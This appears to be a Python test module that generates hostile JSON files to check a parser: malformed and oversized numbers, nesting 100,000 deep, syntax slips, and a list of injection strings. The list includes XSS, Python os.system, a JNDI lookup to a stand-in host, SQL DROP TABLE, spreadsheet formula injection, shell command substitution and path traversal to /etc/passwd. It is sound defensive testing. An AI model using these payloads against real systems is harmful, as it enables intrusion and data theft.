"""Hostile JSON: numbers that are none, nesting without end, and slips of the pen."""

from collections.abc import Iterator

from tests.faults.hostile import HEAD, Hostile, Must, clean, grid, opens, refused, whole

#: A number that no map can hold, and the words that say so.
_REFUSED = (
    ("NaN", "NaN and Infinity"),
    ("Infinity", "NaN and Infinity"),
    ("-Infinity", "NaN and Infinity"),
    ("+1", ""),
    ("1e400", "too large"),
    ("-1e400", "too large"),
    ("1E+999999999", "too large"),
    ("1" + "0" * 400, "too large"),
    ("-1" + "0" * 400, "too large"),
    ("1" + "0" * 400 + ".0", "too large"),
    ("9" * 1_000_000, "too large"),
    ("1e" + "9" * 100_000, "too large"),
    ("18446744073709551616", "too large"),
    ("-9223372036854775809", "too large"),
    ("0x10", ""),
    ("010", ""),
    ("1_000", ""),
    (".5", ""),
    ("5.", ""),
    ("1e", ""),
    ("--1", ""),
    ("1,5", ""),
    ("\u0661", "a value is needed"),
    ("\uff11", "a value is needed"),
    ("1/2", ""),
    ("1e5e5", ""),
    ("tru", ""),
    ("True", "write true"),
    ("undefined", "write null"),
    ("'1'", ""),
)
#: Odd, but numbers all the same; in a part that this version does not know.
_KEPT = (
    "-0",
    "-0.0",
    "1E+2",
    "1e-400",
    "0e999999999",
    "1e308",
    "5e-324",
    "0.1" + "0" * 100_000,
    "0." + "3" * 100_000,
    "9007199254740993",
    "18446744073709551615",
    "-9223372036854775808",
    "1.7976931348623157e308",
    "0.30000000000000004",
)
#: Where a number may stand: around it.
_PLACES = (
    ("an unknown table", '"x": {}'),
    ("an unknown field", '"cards": {{"c": {{"x": [{}]}}}}'),
    ("a share", '"cards": {{"c": {{"affected": {}}}}}'),
    ("a count", '"cards": {{"c": {{"mentions": {}}}}}'),
    ("a duration", '"cards": {{"c": {{"wait": {{"typical": {}}}}}}}'),
    ("a score", '"feelings": {{"f": {{"score": {}}}}}'),
    ("a value of a metric", '"metrics": {{"m": {{"value": {}}}}}'),
)
DEEP = 100_000
#: Where something may stand too deep: what is before it and behind it.
_DEEP = (
    ("an unknown table", '"x": ', ""),
    ("an unknown field of the map", '"map": {"x": ', "}"),
    ("an unknown field of a card", '"cards": {"c": {"x": ', "}}"),
    ("a title", '"cards": {"c": {"title": ', "}}"),
    ("a list of ids", '"cards": {"c": {"about_ids": [', "]}}"),
    ("a duration", '"cards": {"c": {"wait": {"x": ', "}}}"),
    ("the attributes of a persona", '"personas": {"p": {"attributes": [{"x": ', "}]}}"),
    ("a table", '"cards": ', ""),
    ("a record", '"cards": {"c": ', "}"),
    ("the version", '"schema_version": ', ""),
    ("a saved view", '"map": {"saved_views": [{"kinds": [', "]}]}"),
)


def files() -> Iterator[Hostile]:
    """All of them."""
    yield from _numbers()
    yield from _nesting()
    yield from _slips()


def _numbers() -> Iterator[Hostile]:
    group = "numbers"
    for number, words in _REFUSED:
        shown = number if len(number) < 30 else f"{number[:6]}... of {len(number):,} digits"
        odd = f"{shown} in a part that no version knows."
        yield Hostile(group, f"{shown} unknown", odd, refused(words), whole(f'"x": {number}'))
    for number in ("NaN", "-Infinity", "1e400", "1" + "0" * 400, "1e16", "1E+999999999"):
        for place, form in _PLACES[2:]:
            shown = number if len(number) < 30 else "10^400"
            words = "" if place == "a count" else "out of range" if number == "1e16" else ""
            yield Hostile(
                group,
                f"{shown} as {place}",
                f"{shown} stands for {place}.",
                refused(words),
                whole(form.format(number)),
            )
    for number in _KEPT:
        shown = number if len(number) < 30 else f"{number[:6]}... of {len(number):,} digits"
        for place, form in _PLACES[:2]:
            yield Hostile(
                group,
                f"{shown} in {place}",
                f"{shown} is odd, but a number.",
                clean(),
                whole(form.format(number)),
            )
    for number in ("-0", "-0.0", "1e-400", "0e999999999", "5e-324", "0.1" + "0" * 100_000):
        shown = number if len(number) < 30 else "0.1 of 100,000 digits"
        yield Hostile(
            group,
            f"{shown} as a share",
            f"{shown} stands for a share.",
            Must(("clean", "refused", "problems")),
            whole(_PLACES[2][1].format(number)),
        )
    yield Hostile(
        group,
        "10,000 numbers of 4,000 digits",
        "Reading them all takes long.",
        refused("too large"),
        whole(f'"x": [{",".join(["7" * 4000] * 10_000)}]'),
    )
    yield Hostile(
        group,
        "4 MB of small numbers",
        "A list of very many zeros.",
        opens(),
        whole(f'"x": [{",".join("0" * 199_000)}]'),
    )
    yield Hostile(
        group,
        "4 MB of numbers twice",
        "The same, read the thorough way.",
        opens(),
        whole(f'"x": [{",".join("0" * 199_000)}], "y": 1, "y": 1'),
    )


def _nesting() -> Iterator[Hostile]:
    group = "nesting"
    for place, before, after in _DEEP:
        for shape, opened, closed in (("lists", "[", "]"), ("objects", '{"a":', "}")):
            inner = opened * DEEP + ("1" if shape == "objects" else "") + closed * DEEP
            yield Hostile(
                group,
                f"{DEEP:,} {shape} in {place}",
                f"{shape} in {shape}, too deep.",
                refused("stand more than 100 deep"),
                whole(before + inner + after),
            )
    yield Hostile(
        group,
        "nothing but lists",
        "100,000 lists and no map.",
        refused("deep"),
        b"[" * DEEP + b"]" * DEEP,
    )
    yield Hostile(
        group,
        "nothing but objects",
        "100,000 objects and no map.",
        refused("deep"),
        b'{"format":' * DEEP,
    )
    yield Hostile(
        group,
        "lists that never end",
        "100,000 opening brackets in a table.",
        refused("deep"),
        f'{HEAD}, "cards": {"[" * DEEP}'.encode(),
    )
    yield Hostile(
        group,
        "just deep enough",
        "100 deep is allowed.",
        clean(),
        whole(f'"x": {"[" * 99}{"]" * 99}'),
    )
    yield Hostile(
        group,
        "one too deep",
        "101 is not.",
        refused("stand more than 100 deep"),
        whole(f'"x": {"[" * 100}{"]" * 100}'),
    )
    comb = "{" + ",".join(f'"k{n}": {"[" * 90}{"]" * 90}' for n in range(1000)) + "}"
    yield Hostile(
        group, "a comb of deep lists", "1,000 lists, each 90 deep.", clean(), whole(f'"x": {comb}')
    )


def _slips() -> Iterator[Hostile]:
    group = "slips"
    slips = (
        ("a comma too many", '"a": 1,', "one comma too many"),
        ("two commas", '"a": 1,, "b": 2', ""),
        ("only commas", ",,,,", ""),
        ("no comma", '"a": 1\n"b": 2', "a comma is missing"),
        ("no colon", '"a" 1', "a colon is needed"),
        ("a number as a name", "1: 2", "a name in double quotes"),
        ("a name without quotes", "a: 2", "a name in double quotes"),
        ("null as a name", "null: 2", "a name in double quotes"),
        ("a list closed by a brace", '"a": [1}', ""),
        ("an object closed by a bracket", '"a": {"b": 1]', ""),
        ("curly quotes", "“a”: 1", "curly quotes"),
        ("a tab in a text", '"a": "b\tc"', "a text is not"),
        ("an escape that is none", r'"a": "\x41"', "a backslash"),
        ("an escape of three digits", r'"a": "\u12"', "a backslash"),
        ("an escape with a sign", r'"a": "\u+123"', "a backslash"),
        ("an escape in a name", r'"\q": 1', "a backslash"),
        ("a Python text", "\"a\": u'b'", ""),
        ("a function", '"a": function () {}', ""),
        ("a regular expression", '"a": /x/', ""),
        ("a date", '"a": 2026-01-01', ""),
        ("an object as a name", '{"a": 1}: 2', "a name in double quotes"),
    )
    for name, rest, words in slips:
        odd = f"A slip: {name}."
        yield Hostile(group, name, odd, refused(words), whole(rest))
    for name in (
        "alert(1)",
        "__import__('os').system('id')",
        "{{7*7}}",
        "${jndi:ldap://x.invalid}",
        "%s%n%x",
        "'; DROP TABLE cards; --",
        '=HYPERLINK("http://x.invalid")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "$(touch /CANARIES-STAND-HERE/ran)",
        "`id`",
        "../../../etc/passwd",
        "\\\\host.invalid\\share\\x.png",
        "file:///CANARIES-STAND-HERE/secret.txt",
        "CON",
        "C:\\autoexec.bat",
    ):
        yield Hostile(
            "words as code",
            name,
            "A text that another program would run.",
            opens(),
            grid(
                {"c": {"title": name, "body": name, "icon": name, "tags": [name]}},
                personas={"p": {"name": name, "colour": name}},
            ),
        )
